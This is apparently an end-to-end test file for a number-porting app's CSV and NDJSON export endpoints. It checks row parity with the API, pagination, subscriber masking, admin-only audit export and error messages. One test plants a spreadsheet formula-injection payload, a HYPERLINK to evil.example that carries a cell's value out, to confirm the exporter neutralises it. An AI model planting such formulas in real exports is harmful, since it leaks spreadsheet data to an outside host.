// Exports through HTTP: each list's current filter as CSV and NDJSON, the same rows (and masking) as the JSON
// API, page after page past the lists' page size, formulas neutralised, the audit log for admins only, and
// bad requests answered with a one-line reason.
import { randomUUID } from 'node:crypto'
import { uniqueNumber } from '../support/portout'
import { expect, test } from '../support/test'
import { orderXml, postNotification } from '../support/webhooks'
import { buildOrderNotificationXml } from '../../lib/bandwidth/build-notification-xml'

/** RFC 4180 as our writer produces it: every cell quoted, CRLF line ends. */
function parseCsv(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true)
  return text
    .slice(0, -2)
    .split('\r\n')
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => m[1].replace(/""/g, '"')))
}
const parseNdjson = (text: string) =>
  text
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>)

test('orders, events and a timeline export the current filter as CSV and NDJSON, the rows the API lists', async ({ request }) => {
  const tn = uniqueNumber()
  const ids: string[] = []
  for (const status of ['SUBMITTED', 'FOC', 'EXCEPTION']) {
    const o = orderXml({ status, tns: [tn] })
    ids.push(o.orderId)
    expect((await postNotification(request, o.xml)).status()).toBe(200)
  }
  const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
  const noted = buildOrderNotificationXml({ orderId: ids[0], orderType: 'portins', status: 'FOC', note: formula, numbers: [tn] })
  expect((await postNotification(request, noted)).status()).toBe(200)

  const csv = await request.get(`/api/exports/orders?format=csv&q=${tn}`)
  expect(csv.status()).toBe(200)
  expect(csv.headers()['content-type']).toBe('text/csv; charset=utf-8')
  expect(csv.headers()['content-disposition']).toMatch(/^attachment; filename="portwatch-orders-\d{4}-\d{2}-\d{2}\.csv"$/)
  const [header, ...rows] = parseCsv(await csv.text())
  expect(header.slice(0, 4)).toEqual(['orderId', 'orderType', 'customerOrderId', 'status'])
  const api = (await (await request.get(`/api/orders?q=${tn}`)).json()) as { orders: { orderId: string; status: string }[] }
  expect(rows.map((r) => [r[0], r[3]])).toEqual(api.orders.map((o) => [o.orderId, o.status]))
  expect(rows.map((r) => r[0]).sort()).toEqual([...ids].sort())

  const ndjson = await request.get(`/api/exports/orders?format=ndjson&q=${tn}&status=EXCEPTION`)
  expect(ndjson.headers()['content-type']).toBe('application/x-ndjson; charset=utf-8')
  expect(parseNdjson(await ndjson.text())).toEqual((await (await request.get(`/api/orders?q=${tn}&status=EXCEPTION`)).json()).orders)

  const events = parseCsv(await (await request.get(`/api/exports/events?format=csv&number=${tn}`)).text())
  expect(events).toHaveLength(1 + 4)
  expect(events[0].indexOf('numbers')).toBeGreaterThan(-1)
  for (const r of events.slice(1)) expect(r[events[0].indexOf('numbers')]).toContain(tn)

  // The note is a formula: the cell starts with a quote, so a spreadsheet shows it as text.
  const timeline = parseCsv(await (await request.get(`/api/exports/timeline?format=csv&orderId=${ids[0]}`)).text())
  const noteCells = timeline.slice(1).map((r) => r[timeline[0].indexOf('note')])
  expect(noteCells).toContain(`'${formula}`)
  expect(noteCells).not.toContain(formula)
})

test('subscribers export past the page size, masked for a viewer, and never a PIN', async ({ signInAs }) => {
  const tag = randomUUID().slice(0, 8)
  const base = 6_000_000 + Math.floor(Math.random() * 3_000_000)
  const records = Array.from({ length: 230 }, (_, i) => ({
    telephoneNumber: `+1704${String(base + i).padStart(7, '0')}`,
    accountNumber: `EXP-${tag}-${i}`,
    pin: '0048',
    zipCode: '28202',
    subscriberName: `Queen City Export ${tag}`,
    tags: [tag],
  }))
  const operator = await signInAs('operator')
  expect((await operator.post('/api/subscribers', { data: { records } })).status()).toBe(200)

  const viewer = await signInAs('viewer')
  const res = await viewer.get('/api/exports/subscribers?format=ndjson')
  expect(res.status()).toBe(200)
  const text = await res.text()
  const lines = parseNdjson(text)
  const numbers = lines.map((l) => l.telephoneNumber as string)
  expect(new Set(numbers).size).toBe(numbers.length) // no row twice across the page boundaries
  for (const r of records) expect(numbers).toContain(r.telephoneNumber)
  expect(numbers).toEqual([...numbers].sort()) // in number order, as the list is
  expect(text).not.toContain(`EXP-${tag}`)
  expect(text).not.toContain(`Queen City Export ${tag}`)
  expect(text).not.toContain('pinHash')
  const mine = lines.find((l) => l.telephoneNumber === records[0].telephoneNumber)!
  expect(mine).toMatchObject({ cpni: 'masked', hasPin: true, accountNumber: `••••${records[0].accountNumber.slice(-4)}` })
})

test('the audit log exports for admins only, and records every export; bad requests get a reason', async ({ request, signInAs }) => {
  const viewer = await signInAs('viewer')
  expect((await viewer.get('/api/exports/audit?format=csv', { failOnStatusCode: false })).status()).toBe(403)
  expect((await (await signInAs('anonymous')).get('/api/exports/orders', { failOnStatusCode: false })).status()).toBe(401)

  const marker = randomUUID()
  expect((await request.get(`/api/exports/orders?format=csv&q=${marker}`)).status()).toBe(200)
  const audit = parseNdjson(await (await request.get('/api/exports/audit?format=ndjson&action=export.')).text())
  expect(audit.find((e) => e.target === 'orders' && JSON.stringify(e.after).includes(marker))).toMatchObject({
    action: 'export.download',
    actorEmail: expect.any(String),
  })

  const badFormat = await request.get('/api/exports/orders?format=xlsx', { failOnStatusCode: false })
  expect(badFormat.status()).toBe(400)
  expect((await badFormat.json()).message).toBe('format must be one of csv, ndjson, got "xlsx"')
  const unknown = await request.get('/api/exports/secrets', { failOnStatusCode: false })
  expect(unknown.status()).toBe(404)
  expect((await unknown.json()).message).toMatch(/^no export named "secrets": one of orders, timeline/)
  const badFilter = await request.get('/api/exports/orders?from=yesterday', { failOnStatusCode: false })
  expect(badFilter.status()).toBe(400)
  const missingOrder = await request.get(`/api/exports/timeline?orderId=${marker}`, { failOnStatusCode: false })
  expect(missingOrder.status()).toBe(404)
})
